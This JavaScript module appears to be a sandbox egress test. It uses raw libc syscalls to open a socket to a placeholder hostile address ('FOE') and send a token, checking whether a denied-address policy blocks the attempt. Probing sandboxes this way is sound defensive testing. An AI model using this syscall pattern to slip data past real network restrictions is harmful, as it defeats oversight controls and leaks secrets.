// An addon: connect
// Calls connect and write through libc's syscall().
// policy: denied-address
// audit: explicitlyDeniedIP
// proof: arrival
'use strict';
module.exports = async (at) => {
  const { syscall } = at.native();
  const socket = syscall(41, 2, 1, 0);
  if (syscall(42, socket, at.address4(at.FOE, at.PORT), 16) < 0) return false;
  return syscall(1, socket, Buffer.from(at.token), at.token.length) > 0;
};
